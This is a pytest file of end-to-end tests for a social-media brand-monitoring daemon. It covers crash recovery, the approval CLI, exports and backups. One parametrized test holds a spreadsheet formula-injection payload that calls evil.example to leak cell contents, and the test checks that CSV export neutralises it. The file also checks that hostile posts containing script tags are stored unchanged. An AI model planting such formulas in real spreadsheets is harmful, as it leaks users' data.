"""The daemon end to end, as a real process: the demo, restarts, SIGKILL, SIGTERM, queue CLI."""

from __future__ import annotations

import csv
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import STORES, new_store_url
from tests.helpers import (
    BASE_CONFIG,
    DEMO_CONFIG,
    DEMO_MENTIONS,
    ROOT,
    brandbot,
    child_pids,
    db_rows,
    replay_source,
)


def _db(path: Path) -> sqlite3.Connection:
    return sqlite3.connect(f"file:{path}?mode=ro", uri=True)


def _count(db: Path | str, sql: str) -> int:
    rows = db_rows(db, sql)
    return int(rows[0][0]) if rows else 0


@pytest.fixture(scope="module", params=STORES)
def demo_db(tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> str:
    """The demo config run once, into a private database (of each kind of store)."""
    db = new_store_url(request.param, tmp_path_factory.mktemp("demo"), "demo", request)
    result = brandbot("--config", str(DEMO_CONFIG), "run", "--once", "--no-web",
                      env={"BRANDBOT_STORAGE_URL": db})
    assert result.returncode == 0, result.stderr + result.stdout
    return db


def _demo(*args: str, db: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return brandbot("--config", str(DEMO_CONFIG), *args, stdin=stdin,
                    env={"BRANDBOT_STORAGE_URL": db})


def test_demo_run_stores_mentions_opens_cases_and_drafts(demo_db: str) -> None:
    lines = DEMO_MENTIONS.read_text(encoding="utf-8").splitlines()
    festival = sum("brightwave festival" in json.loads(line)["text"].lower() for line in lines)
    mentions = _count(demo_db, "SELECT count(*) FROM mentions")
    assert mentions >= 300
    assert mentions == len(lines) - festival
    cases = _count(demo_db, "SELECT count(*) FROM cases")
    assert 50 <= cases < mentions
    assert _count(demo_db, "SELECT count(*) FROM drafts WHERE status = 'pending'") >= 50
    assert _count(demo_db, "SELECT count(*) FROM cases WHERE mention_count > 1") >= 3
    assert _count(demo_db, "SELECT count(DISTINCT team) FROM cases") >= 3
    if demo_db.startswith("sqlite:///"):
        assert db_rows(demo_db, "PRAGMA integrity_check") == [("ok",)]
    stored = {r[0] for r in db_rows(demo_db, "SELECT text FROM mentions")}
    originals = {json.loads(line)["text"] for line in lines}
    assert stored <= originals  # byte-for-byte, including the hostile ones


def test_running_again_adds_no_duplicate(demo_db: str) -> None:
    before = [_count(demo_db, f"SELECT count(*) FROM {t}") for t in ("mentions", "cases",
                                                                       "drafts")]
    result = _demo("run", "--once", "--no-web", db=demo_db)
    assert result.returncode == 0, result.stderr
    after = [_count(demo_db, f"SELECT count(*) FROM {t}") for t in ("mentions", "cases",
                                                                      "drafts")]
    assert after == before


def test_queue_list_json_has_the_contract_fields(demo_db: str) -> None:
    result = _demo("queue", "list", "--json", db=demo_db)
    assert result.returncode == 0, result.stderr
    drafts = json.loads(result.stdout)
    assert len(drafts) >= 50
    for field in ("id", "case_id", "platform", "status", "text", "mention_text", "author",
                  "intent", "priority", "created_at"):
        assert field in drafts[0]
    order = {"urgent": 0, "high": 1, "normal": 2, "low": 3}
    ranks = [order[d["priority"]] for d in drafts]
    assert ranks == sorted(ranks)


def test_approve_and_reject_from_the_cli(demo_db: str) -> None:
    add = _demo("users", "add", "ann", "--role", "approver", db=demo_db,
                stdin="correct horse battery\n")
    assert add.returncode == 0, add.stderr
    viewer = _demo("users", "add", "vic", "--role", "viewer", db=demo_db,
                   stdin="another long password\n")
    assert viewer.returncode == 0
    drafts = json.loads(_demo("queue", "list", "--status", "pending", "--json",
                              db=demo_db).stdout)
    clean = [d for d in drafts if not d["flags"]]
    first, second = clean[0]["id"], clean[1]["id"]

    ok = _demo("queue", "approve", str(first), "--text", "Hi! DM us and we'll fix it ^Sam",
               "--as", "ann", db=demo_db)
    assert ok.returncode == 0, ok.stderr
    twice = _demo("queue", "reject", str(first), "--reason", "dup", "--as", "ann", db=demo_db)
    assert twice.returncode == 1
    assert f"draft {first} is already approved by ann" in twice.stderr
    refused = _demo("queue", "approve", str(second), "--as", "vic", db=demo_db)
    assert refused.returncode == 1 and "viewer" in refused.stderr
    stranger = _demo("queue", "approve", str(second), "--as", "mallory", db=demo_db)
    assert stranger.returncode == 1 and "unknown user 'mallory'" in stranger.stderr
    too_long = _demo("queue", "approve", str(second), "--text", "x" * 600, "--as", "ann",
                     db=demo_db)
    assert too_long.returncode == 1 and "too_long" in too_long.stderr
    rejected = _demo("queue", "reject", str(second), "--reason", "wrong tone", "--as", "ann",
                     db=demo_db)
    assert rejected.returncode == 0, rejected.stderr

    audit = db_rows(demo_db, "SELECT actor, action, subject, before, after, detail FROM audit "
                             "WHERE subject LIKE 'draft:%' ORDER BY id")
    assert [(a[0], a[1], a[2]) for a in audit] == [
        ("ann", "edit_approve", f"draft:{first}"), ("ann", "reject", f"draft:{second}")]
    assert audit[0][4] == "Hi! DM us and we'll fix it ^Sam"
    assert json.loads(audit[1][5]) == {"reason": "wrong tone"}
    approved = json.loads(_demo("queue", "list", "--status", "approved", "--json",
                                db=demo_db).stdout)
    assert [d["id"] for d in approved] == [first]


def test_cases_list_json(demo_db: str) -> None:
    result = _demo("cases", "list", "--json", db=demo_db)
    cases = json.loads(result.stdout)
    assert {"id", "status", "author", "platform", "intent", "priority", "team", "opened_at",
            "sla_due_at", "mention_count"} <= set(cases[0])
    assert max(c["mention_count"] for c in cases) >= 3


def _big_feed(path: Path, n: int) -> list[str]:
    ids = []
    with path.open("w", encoding="utf-8") as f:
        for i in range(n):
            ids.append(f"x:{10_000 + i}")
            f.write(json.dumps({
                "platform": "x", "id": str(10_000 + i), "author": f"cust{i % 97}",
                "text": f"@BrightwaveHelp my brightwave internet is down again, day {i}",
                "created_at": f"2026-11-{1 + i // 1440:02d}T{i // 60 % 24:02d}:{i % 60:02d}:00Z",
            }) + "\n")
    return ids


def _start(config: Path, *args: str) -> subprocess.Popen[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("BRANDBOT_")}
    return subprocess.Popen([sys.executable, "-m", "monitor.cli", "--config", str(config),
                             *args], cwd=ROOT, env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True)


def _wait_for(db: Path, minimum: int, proc: subprocess.Popen[str], limit: float = 60) -> int:
    deadline = time.monotonic() + limit
    while time.monotonic() < deadline:
        assert proc.poll() is None, proc.stdout.read() if proc.stdout else ""
        if db.exists():
            try:
                count = _count(db, "SELECT count(*) FROM mentions")
            except sqlite3.OperationalError:
                count = 0
            if count >= minimum:
                return count
        time.sleep(0.05)
    raise AssertionError("the daemon stored nothing in time")


def _stored_before_cursor(feed: Path, db: Path) -> set[str]:
    with _db(db) as conn:
        (cursor,) = conn.execute("SELECT cursor FROM cursors WHERE source = 'replay'").fetchone()
    covered = feed.read_bytes()[: int(cursor)].decode().splitlines()
    return {"x:" + json.loads(line)["id"] for line in covered}


def test_sigkill_mid_run_loses_nothing_acknowledged_and_repeats_nothing(tmp_path: Path) -> None:
    feed = tmp_path / "feed.jsonl"
    ids = _big_feed(feed, 4000)
    config = tmp_path / "brandbot.toml"
    config.write_text(BASE_CONFIG + replay_source(feed, page_size=5))
    db = tmp_path / "brandbot.db"

    proc = _start(config, "run", "--no-web")
    try:
        _wait_for(db, 200, proc)
        workers = child_pids(proc.pid)
    finally:
        proc.kill()
        proc.wait()
    # the analysis worker does not outlive the daemon
    assert workers, "the daemon analyses in a worker process by default"
    deadline = time.monotonic() + 10
    while any(Path(f"/proc/{pid}").exists() for pid in workers):
        assert time.monotonic() < deadline, f"workers {workers} outlived the killed daemon"
        time.sleep(0.1)
    with _db(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        stored = {r[0] for r in conn.execute("SELECT id FROM mentions")}
    assert 200 <= len(stored) < len(ids), "kill the daemon mid-run, not after it finished"
    assert stored == _stored_before_cursor(feed, db)  # acknowledged == stored, exactly

    result = brandbot("--config", str(config), "run", "--once", "--no-web")
    assert result.returncode == 0, result.stderr
    with _db(db) as conn:
        final = [r[0] for r in conn.execute("SELECT id FROM mentions")]
        per_mention = conn.execute("SELECT max(n) FROM (SELECT count(*) AS n FROM drafts "
                                   "GROUP BY mention_id)").fetchone()[0]
    assert sorted(final) == sorted(ids)
    assert per_mention == 1


def test_sigterm_stops_within_five_seconds(tmp_path: Path) -> None:
    feed = tmp_path / "feed.jsonl"
    _big_feed(feed, 3000)
    config = tmp_path / "brandbot.toml"
    config.write_text(BASE_CONFIG + replay_source(feed, page_size=5))
    proc = _start(config, "--log-format", "json", "run", "--no-web")
    _wait_for(tmp_path / "brandbot.db", 50, proc)
    sent = time.monotonic()
    proc.send_signal(signal.SIGTERM)
    code = proc.wait(timeout=10)
    assert time.monotonic() - sent < 5
    assert code == 0
    output = proc.stdout.read() if proc.stdout else ""
    events = [json.loads(line) for line in output.splitlines()]
    assert {"stopping", "stopped"} <= {e.get("event") for e in events}
    assert all({"ts", "level", "logger", "msg"} <= set(e) for e in events)
    db = tmp_path / "brandbot.db"
    assert {r for r in _stored_before_cursor(feed, db)} == {
        r[0] for r in _db(db).execute("SELECT id FROM mentions")}


def test_export_backup_and_migrate(demo_db: str, tmp_path: Path) -> None:
    mentions = _count(demo_db, "SELECT count(*) FROM mentions")
    jsonl = _demo("export", "--what", "mentions", "--format", "jsonl", db=demo_db)
    rows = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert len(rows) == mentions
    assert {"id", "platform", "author", "created_at", "text", "sentiment", "intent",
            "case_id"} <= set(rows[0])
    assert [r["created_at"] for r in rows] == sorted(r["created_at"] for r in rows)
    originals = {json.loads(line)["text"]
                 for line in DEMO_MENTIONS.read_text(encoding="utf-8").splitlines()}
    hostile = [r["text"] for r in rows if "<script>" in r["text"] or "\u202e" in r["text"]]
    assert len(hostile) >= 2 and set(hostile) <= originals  # exported exactly as posted
    out = tmp_path / "cases.csv"
    result = _demo("export", "--what", "cases", "--format", "csv", "-o", str(out), db=demo_db)
    assert result.returncode == 0, result.stderr
    with out.open(newline="", encoding="utf-8") as f:
        cases = list(csv.DictReader(f))
    assert len(cases) == _count(demo_db, "SELECT count(*) FROM cases")
    assert {"id", "status", "author", "team", "sla_due_at", "csat"} <= set(cases[0])
    # a post that would run as a spreadsheet formula is exported as text (OWASP: apostrophe)
    posts = tmp_path / "mentions.csv"
    assert _demo("export", "--what", "mentions", "--format", "csv", "-o", str(posts),
                 db=demo_db).returncode == 0
    with posts.open(newline="", encoding="utf-8") as f:
        texts = [r["text"] for r in csv.DictReader(f)]
    assert len(texts) == mentions
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@")]
    assert sum(t.startswith("'@") for t in texts) >= 10  # replies that start with a handle

    copy = tmp_path / "backup.db"
    backup = _demo("db", "backup", str(copy), db=demo_db)
    if demo_db.startswith("postgresql://"):  # PostgreSQL is backed up with its own tools
        assert backup.returncode == 2 and "pg_dump" in backup.stderr and not copy.exists()
    else:
        assert backup.returncode == 0
        with _db(copy) as conn:
            assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
            assert conn.execute("SELECT count(*) FROM mentions").fetchone()[0] == mentions
        again = _demo("db", "backup", str(copy), db=demo_db)
        assert again.returncode == 2 and "exists" in again.stderr
    migrate = _demo("db", "migrate", db=demo_db)
    assert migrate.returncode == 0 and "nothing to do" in migrate.stdout


@pytest.mark.parametrize(("value", "safe"), [
    ('=HYPERLINK("https://evil.example/?d="&A1,"click")', "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"click\")"),
    ("+1-555-0100", "'+1-555-0100"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"), ("plain text", "plain text"), (42, 42), (None, None),
])
def test_csv_cells_that_would_run_as_formulas_are_neutralised(value: object, safe: object) -> None:
    from monitor.commands.operations import csv_cell

    assert csv_cell(value) == safe
